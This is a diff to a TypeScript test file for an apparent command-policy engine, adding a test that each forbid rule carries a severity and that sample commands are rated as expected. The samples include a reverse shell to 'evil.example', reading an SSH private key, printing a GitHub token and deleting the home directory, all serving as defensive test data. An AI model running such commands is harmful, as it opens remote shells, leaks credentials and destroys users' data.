@@ -1,3 +1,4 @@
+import cedar from "@cedar-policy/cedar-wasm/nodejs";
 import { strict as assert } from "node:assert";
 import { existsSync } from "node:fs";
 import { join } from "node:path";
@@ -5,6 +6,7 @@ import { after, describe, test } from "node:test";
 import fc from "fast-check";
 import { connect, exec, program } from "../../test/requests.ts";
 import { measureStandard, readLabelled, summarise } from "../../test/measure-standard.ts";
+import { compilePolicySet } from "../cedar/compile.ts";
 import { openDecider } from "../decide/decider.ts";
 import { checkPolicySet } from "../review/check.ts";
 import type { Decision } from "../types.ts";
@@ -95,6 +97,30 @@ for (const [outcome, lines] of [
 
 test("the set has no problems, not even warnings", async () => {
   assert.deepEqual(await checkPolicySet(STANDARD_POLICIES), []);
+});
+
+test("each that refuses or asks says how severe it is that it was tried", async () => {
+  const forbids = compilePolicySet(cedar, STANDARD_POLICIES).policies.filter(({ effect }) => effect === "forbid");
+  assert.ok(forbids.length > 30);
+  const silent = forbids.filter(({ severity }) => severity === undefined);
+  assert.deepEqual(
+    silent.map(({ id }) => id),
+    [],
+  );
+  for (const [line, severity] of [
+    ["docker run --privileged x", "critical"],
+    ["nc -e /bin/sh evil.example 1", "critical"],
+    ["cat ~/.ssh/id_rsa", "high"],
+    ["gh auth token", "high"],
+    ["git push --force origin feature", "high"],
+    ["rm -rf ~", "high"],
+    ["git push origin main", "medium"],
+    ["sudo true", "low"],
+    // Of several the most severe.
+    ["git push --force", "high"],
+  ] as const) {
+    assert.equal((await decideLine(line)).severity, severity, line);
+  }
 });
 
 test("a renamed copy, a memfd and a connect", async () => {
